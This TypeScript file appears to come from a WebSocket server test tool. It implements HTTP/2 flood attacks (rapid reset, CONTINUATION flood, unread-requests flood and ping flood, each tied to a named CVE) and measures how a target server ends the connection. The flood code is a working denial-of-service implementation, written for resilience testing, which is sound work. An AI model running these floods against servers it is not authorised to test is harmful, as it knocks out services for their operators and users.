/**
 * An HTTP/2 flood on one connection (17.5), in wsgate's own frames: the preface and an empty
 * SETTINGS, the server's SETTINGS acknowledged (and SETTINGS_ENABLE_CONNECT_PROTOCOL checked), then
 * the flood a batch per write, each write once the socket took the one before, until the server
 * sends GOAWAY or ends TCP (what it wrote before a reset is read first), stops reading (a write not
 * taken for the grace), or the flood is all written. Loopback's buffers take megabytes before the
 * server reads a byte, so "written" says little: what the server's process read is wsgate's flushed
 * bytes less the kernel's queues at both ends (util/kernel-queues.ts), sampled before the first
 * write, after every write, while a write waits, and at the server's GOAWAY.
 */
import type net from 'node:net';
import type { H2Flood, H2FloodAttack, H2FloodFacts } from '../../cases/attack-types.js';
import { encodeH2Frame, H2_PREFACE, H2Flag, H2Frame, H2FrameReader, hpackBlock, hpackLiteral, parseSettings } from '../../protocol/h2-frames.js';
import { connectionQueues } from '../../util/kernel-queues.js';
import { probeFields } from '../h2-probe.js';
import { connectTo, targetHostPort } from '../play-case.js';
import type { ServerTarget } from '../play-types.js';

/** How long the server has to send its SETTINGS. */
const SETTINGS_WAIT_MS = 5000;
/** How long wsgate waits, after the last unit, for a server that has not read them all yet. */
const UNREAD_WAIT_MS = 10_000;
/** How often the kernel's queues are looked at while wsgate waits: for the end, and for a write the socket has not taken. */
const LOOK_EVERY_MS = 50;
const STALL_LOOK_MS = 250;
/** How long wsgate reads on, once the server's socket is gone, for what it wrote before (a GOAWAY): from the last byte. */
const END_READ_MS = 200;
/** SETTINGS_ENABLE_CONNECT_PROTOCOL (RFC 8441 §3). */
const ENABLE_CONNECT_PROTOCOL = 0x8;
/** RST_STREAM's CANCEL (RFC 9113 §7). */
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** The largest flow-control window (RFC 9113 §6.9.1), and the connection's initial one. */
const MAX_WINDOW = 0x7fffffff;
const INITIAL_WINDOW = 65_535;
/** How long wsgate reads on after the requests flood, for the answers: until the server sends nothing for this long, or DRAIN_MAX_MS pass. */
const DRAIN_QUIET_MS = 300;
const DRAIN_MAX_MS = 10_000;

/** The flood's frames: what goes ahead of the units, and unit i. */
interface FloodFrames {
  head: Buffer;
  unit: (i: number) => Buffer;
  /** The last stream id unit i opened (0: the flood opens none of its own). */
  streamOf: (i: number) => number;
}

/** The frames of each flood; `fields` are an extended CONNECT's (RFC 8441 §4), `request` a GET's. */
function floodFrames(flood: H2Flood, fields: Buffer, request: Buffer): FloodFrames {
  if (flood === 'rapid-reset') {
    // CVE-2023-44487: a stream opened (HEADERS, END_HEADERS) and cancelled at once, on odd ids 1, 3, 5, …
    const streamOf = (i: number): number => 2 * i + 1;
    return {
      head: Buffer.alloc(0),
      unit: (i) =>
        Buffer.concat([encodeH2Frame(H2Frame.Headers, H2Flag.EndHeaders, streamOf(i), fields), encodeH2Frame(H2Frame.RstStream, 0, streamOf(i), CANCEL)]),
      streamOf,
    };
  }
  if (flood === 'continuation') {
    // CVE-2024-27316 and kin: a header block that never ends, each CONTINUATION a new field (same size each).
    return {
      head: encodeH2Frame(H2Frame.Headers, 0, 1, fields),
      unit: (i) => encodeH2Frame(H2Frame.Continuation, 0, 1, hpackLiteral(`x-flood-${String(i).padStart(7, '0')}`, 'a')),
      streamOf: () => 1,
    };
  }
  if (flood === 'requests') {
    // CVE-2019-9517: every window opened, so that only TCP holds the answers back, and no HPACK table
    // for the server's answers, so that each carries its fields whole and the kernel's buffers fill
    // sooner; then complete requests (HEADERS, END_STREAM and END_HEADERS) on odd ids 1, 3, 5, ...,
    // whose answers wsgate never reads.
    const settings = Buffer.alloc(12);
    settings.writeUInt16BE(0x4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
    settings.writeUInt32BE(MAX_WINDOW, 2);
    settings.writeUInt16BE(0x1, 6); // SETTINGS_HEADER_TABLE_SIZE
    settings.writeUInt32BE(0, 8);
    const increment = Buffer.alloc(4);
    increment.writeUInt32BE(MAX_WINDOW - INITIAL_WINDOW);
    const streamOf = (i: number): number => 2 * i + 1;
    return {
      head: Buffer.concat([encodeH2Frame(H2Frame.Settings, 0, 0, settings), encodeH2Frame(H2Frame.WindowUpdate, 0, 0, increment)]),
      unit: (i) => encodeH2Frame(H2Frame.Headers, H2Flag.EndHeaders | H2Flag.EndStream, streamOf(i), request),
      streamOf,
    };
  }
  const ping = Buffer.alloc(8);
  return {
    head: Buffer.alloc(0),
    unit: (i) => {
      ping.writeUInt32BE(i >>> 0, 4);
      return encodeH2Frame(H2Frame.Ping, 0, 0, ping);
    },
    streamOf: () => 0,
  };
}

/** A flood's facts: nothing written, read or seen, but `over`. */
export function factsOf(attack: H2FloodAttack, over: Partial<H2FloodFacts> & { unitBytes: number }): H2FloodFacts {
  const zero = { unitsWritten: 0, headBytes: 0, lastStreamId: 0, resetsIn: 0, responsesIn: 0, writingMs: 0 };
  return { flood: attack.flood, units: attack.units, refused: null, unitsRead: null, end: null, ending: 'open', answers: null, ...zero, ...over };
}

/** The flood played against the server; never rejects. */
export function runH2Flood(target: ServerTarget, attack: H2FloodAttack, graceMs: number, signal: AbortSignal | undefined): Promise<H2FloodFacts> {
  const scheme = target.tls ? 'https' : 'http';
  const fields = hpackBlock(probeFields(scheme, targetHostPort(target), target.resource));
  const get: Array<[string, string]> = [
    [':method', 'GET'],
    [':scheme', scheme],
    [':path', target.resource],
    [':authority', targetHostPort(target)],
  ];
  const frames = floodFrames(attack.flood, fields, hpackBlock(get));
  return new Promise((resolve) => {
    let flood: Flood | null = null;
    const refused = (why: string): void => resolve(factsOf(attack, { refused: why, unitBytes: frames.unit(0).length }));
    const socket = connectTo(
      target,
      (s) => {
        flood = new Flood(s, attack, frames, graceMs, resolve);
        flood.start(refused);
      },
      refused,
    );
    signal?.addEventListener('abort', () => (flood === null ? socket.destroy() : flood.stop()), { once: true });
  });
}

/** One flood on a connected socket. */
class Flood {
  private readonly reader = new H2FrameReader();
  /** Octets wsgate wrote besides the flood's own (the preface, SETTINGS, acknowledgements). */
  private overhead = 0;
  private written = 0;
  private startedAt: number | null = null;
  private lastAt: number | null = null;
  /** The most units the server's process was seen to have read (null: its socket is not in the table), and when that last grew. */
  private read: number | null = null;
  private progressAt = 0;
  private end: H2FloodFacts['end'] = null;
  private ending: H2FloodFacts['ending'] = 'open';
  private resetsIn = 0;
  private responsesIn = 0;
  private timer: NodeJS.Timeout | undefined;
  private stallTimer: NodeJS.Timeout | undefined;
  /** The server's end seen: wsgate writes no more and reads what the server wrote before it (its GOAWAY). */
  private closing = false;
  private done = false;
  private resolved = false;
  /** The requests flood over: what the kernel held then, the answers read since (streams answered by HEADERS or RST_STREAM). */
  private drain: { kernelBytes: number; bytes: number; inKernel: number; answered: Set<number> } | null = null;
  private readonly unitBytes: number;

  constructor(
    private readonly socket: net.Socket,
    private readonly attack: H2FloodAttack,
    private readonly frames: FloodFrames,
    private readonly graceMs: number,
    private readonly resolve: (facts: H2FloodFacts) => void,
  ) {
    this.unitBytes = frames.unit(0).length;
  }

  /** The preface; the flood once the server's SETTINGS allow it, or `refused` with the reason. */
  start(refused: (why: string) => void): void {
    const s = this.socket;
    let begun = false;
    const notBegun = (why: string): void => {
      if (begun) return;
      begun = true;
      this.done = true;
      clearTimeout(this.timer);
      s.destroy();
      refused(why);
    };
    this.timer = setTimeout(() => notBegun(`the server sent no HTTP/2 SETTINGS within ${SETTINGS_WAIT_MS / 1000} s`), SETTINGS_WAIT_MS);
    s.on('error', () => undefined);
    s.on('close', (hadError) =>
      begun ? this.tcpEnded(hadError ? 'reset' : 'closed') : notBegun('the server closed the connection before its HTTP/2 SETTINGS'),
    );
    s.on('data', (chunk: Buffer) => {
      if (this.closing && !this.done) this.readOn();
      if (this.drain !== null) this.drainTimer();
      for (const f of this.reader.push(chunk)) {
        if (this.drain !== null || f.type !== H2Frame.Settings || (f.flags & H2Flag.Ack) !== 0) {
          this.frame(f, begun);
          continue;
        }
        this.put(encodeH2Frame(H2Frame.Settings, H2Flag.Ack, 0));
        if (begun) continue;
        if (parseSettings(f.payload).get(ENABLE_CONNECT_PROTOCOL) !== 1) {
          notBegun('the server did not advertise SETTINGS_ENABLE_CONNECT_PROTOCOL: it takes no WebSockets over HTTP/2 (RFC 8441 §3)');
          return;
        }
        begun = true;
        clearTimeout(this.timer);
        this.begin();
      }
    });
    this.put(Buffer.concat([H2_PREFACE, encodeH2Frame(H2Frame.Settings, 0, 0)]));
  }

  /** The flood's first write, the server's read measured first (0, or null: its socket is not on this machine); the ping flood reads no more. */
  private begin(): void {
    if (this.attack.flood === 'ping' || this.attack.flood === 'requests') this.socket.pause();
    this.read = this.sample();
    this.startedAt = performance.now();
    this.next();
  }

  /** A frame of the server's besides its SETTINGS; a GOAWAY read after its end of TCP was seen (written just before) joins that end. */
  private frame(f: ReturnType<H2FrameReader['push']>[number], begun: boolean): void {
    const drain = this.drain;
    if (drain !== null) {
      drain.bytes += 9 + f.payload.length;
      if ((f.type === H2Frame.Headers || f.type === H2Frame.RstStream) && f.streamId % 2 === 1 && !drain.answered.has(f.streamId)) {
        drain.answered.add(f.streamId);
        if (drain.bytes <= drain.kernelBytes) drain.inKernel++;
      }
      return;
    }
    if (f.type === H2Frame.Ping && (f.flags & H2Flag.Ack) === 0 && this.attack.flood !== 'ping')
      this.put(encodeH2Frame(H2Frame.Ping, H2Flag.Ack, 0, f.payload));
    else if (f.type === H2Frame.RstStream) this.resetsIn++;
    else if (f.type === H2Frame.Headers) this.responsesIn++;
    else if (f.type === H2Frame.GoAway && begun && !this.done) {
      const p = f.payload;
      const goaway = { code: p.length >= 8 ? p.readUInt32BE(4) : 0, lastStreamId: p.length >= 4 ? p.readUInt32BE(0) & 0x7fffffff : 0 };
      if (this.end === null) this.endAt(performance.now(), goaway, true);
      else this.end = { ...this.end, goaway: this.end.goaway ?? goaway };
      this.stop();
    }
  }

  /** Bytes that are not the flood's; none once the server's end is seen (a write then fails, and Node drops what waits to be read). */
  private put(bytes: Buffer): void {
    if (this.socket.destroyed || this.closing) return;
    this.overhead += bytes.length;
    this.socket.write(bytes);
  }

  /**
   * The next batch, once the socket took the previous one; then the wait for the server to read it all.
   * It is written two turns of Node's event loop later, so that what the server wrote meanwhile is read
   * first: a GOAWAY written just before a reset, which the write would fail on, and Node then drops.
   */
  private next(): void {
    if (this.done || this.closing) return;
    if (this.written === 0) this.overhead += this.frames.head.length;
    const from = this.written;
    const to = Math.min(this.attack.units, from + this.attack.batch);
    if (from >= to) return this.waitForEnd();
    const pieces = from === 0 ? [this.frames.head] : [];
    for (let i = from; i < to; i++) pieces.push(this.frames.unit(i));
    const batch = Buffer.concat(pieces);
    setImmediate(() => setImmediate(() => this.write(batch, to)));
  }

  /** A batch written, unless the server's end came meanwhile; a write not taken while the server reads nothing for `graceMs` stops the flood. */
  private write(batch: Buffer, to: number): void {
    if (this.done || this.closing) return;
    this.written = to;
    this.lastAt = performance.now();
    this.progressAt = this.lastAt;
    this.watchStall();
    this.socket.write(batch, (err) => {
      clearTimeout(this.stallTimer);
      if (err != null || this.done || this.closing) return;
      this.look();
      this.next();
    });
  }

  /** While a write waits for the socket: the server's read looked at, and the flood stopped once it has read nothing for `graceMs`. */
  private watchStall(): void {
    clearTimeout(this.stallTimer);
    this.stallTimer = setTimeout(() => {
      this.look();
      if (this.done || this.closing) return;
      if (performance.now() - this.progressAt >= this.graceMs) return this.stop();
      this.watchStall();
    }, STALL_LOOK_MS);
  }

  /** The units the server's process has read now (wsgate's flushed bytes less the kernel's queues), or null when its socket is not in the table. */
  private sample(): number | null {
    const queues = connectionQueues(this.socket);
    if (queues === null) return null;
    const flushed = this.socket.bytesWritten - this.socket.writableLength;
    const units = Math.floor((flushed - queues.ourUnacked - queues.peerUnread - this.overhead) / this.unitBytes);
    return Math.min(this.written, Math.max(0, units));
  }

  /** The server's read measured, kept when it grew; its socket gone from the table (a reset: closed with a FIN, it stays) timed before the read (tens of ms). */
  private look(): void {
    if (this.done || this.closing) return;
    const at = performance.now();
    const now = this.sample();
    if (now === null && this.read !== null) return this.serverGone(at);
    if (now !== null && (this.read === null || now > this.read)) [this.read, this.progressAt] = [now, at];
  }

  /** All written: wait for the server to read it all (or UNREAD_WAIT_MS, or until it reads nothing for `graceMs`), then `graceMs` for its end. */
  private waitForEnd(): void {
    const lastAt = performance.now();
    let allReadAt: number | null = null;
    const tick = (): void => {
      this.look();
      if (this.done || this.closing) return;
      const now = performance.now();
      if (this.read === null || this.read >= this.written) allReadAt ??= now;
      const over =
        allReadAt === null ? now - this.progressAt >= this.graceMs || now - lastAt >= UNREAD_WAIT_MS + this.graceMs : now - allReadAt >= this.graceMs;
      if (over) return this.stop();
      this.timer = setTimeout(tick, LOOK_EVERY_MS);
    };
    tick();
  }

  /** The server's end (its GOAWAY, or TCP) seen at `at`: the figures then, the server's read when `measure` finds its socket (else null: the last look's stands). */
  private endAt(at: number, goaway: { code: number; lastStreamId: number } | null, measure: boolean): void {
    if (this.end !== null || this.startedAt === null) return;
    const now = measure ? this.sample() : null;
    if (now !== null) this.read = Math.max(this.read ?? 0, now);
    this.end = { ms: at - this.startedAt, unitsWritten: this.written, unitsRead: now === null ? null : this.read, goaway };
  }

  /** The server's socket gone (a reset): no more writes, and what it wrote before is read (the ping flood's too), for its GOAWAY. */
  private serverGone(at: number): void {
    this.ending = 'reset';
    this.endAt(at, null, false);
    this.closing = true;
    clearTimeout(this.stallTimer);
    this.socket.resume();
    this.readOn();
  }

  /** Reading on after the server's end: until TCP ends, or END_READ_MS pass without a byte. */
  private readOn(): void {
    clearTimeout(this.timer);
    this.timer = setTimeout(() => this.stop(), END_READ_MS);
  }

  /** wsgate's socket closed: the server closed or reset TCP (or a write failed on its reset), everything it wrote read (the ping flood: unless paused). */
  private tcpEnded(how: 'closed' | 'reset'): void {
    if (this.done || this.startedAt === null) return;
    this.ending = how;
    this.endAt(performance.now(), null, false);
    this.stop();
  }

  /** The flood is over: for the requests flood with the connection open, the answers read first; then the facts, and the connection closed. */
  stop(): void {
    if (this.done) {
      if (this.drain !== null) this.finish();
      return;
    }
    this.done = true;
    clearTimeout(this.timer);
    clearTimeout(this.stallTimer);
    if (this.attack.flood === 'requests' && !this.closing && this.end === null && !this.socket.destroyed) return this.readAnswers();
    this.finish();
  }

  /**
   * What the kernel holds of the server's answers (its send queue, wsgate's receive queue, and what
   * Node read ahead), then the connection read until the server sends nothing for DRAIN_QUIET_MS:
   * the answers that come within those bytes were in the kernel, the others in the server.
   */
  private readAnswers(): void {
    const queues = connectionQueues(this.socket);
    if (queues === null) return this.finish();
    const kernelBytes = queues.peerUnacked + queues.ourUnread + this.socket.readableLength;
    this.drain = { kernelBytes, bytes: 0, inKernel: 0, answered: new Set() };
    this.socket.once('close', () => this.finish());
    this.timer = setTimeout(() => this.finish(), DRAIN_MAX_MS);
    this.drainTimer();
    this.socket.resume();
  }

  private drainTimer(): void {
    clearTimeout(this.stallTimer);
    this.stallTimer = setTimeout(() => this.finish(), DRAIN_QUIET_MS);
  }

  /** The facts, once; the connection closed. */
  private finish(): void {
    if (this.resolved) return;
    this.resolved = true;
    clearTimeout(this.timer);
    clearTimeout(this.stallTimer);
    this.socket.destroy();
    const drain = this.drain;
    this.resolve(
      factsOf(this.attack, {
        unitsWritten: this.written,
        headBytes: this.frames.head.length,
        unitBytes: this.unitBytes,
        unitsRead: this.read,
        end: this.end,
        lastStreamId: this.written === 0 ? 0 : this.frames.streamOf(this.written - 1),
        resetsIn: this.resetsIn,
        responsesIn: this.responsesIn,
        ending: this.ending,
        writingMs: this.startedAt === null || this.lastAt === null ? 0 : this.lastAt - this.startedAt,
        answers: drain === null ? null : { kernelBytes: drain.kernelBytes, inKernel: drain.inKernel, read: drain.answered.size },
      }),
    );
  }
}
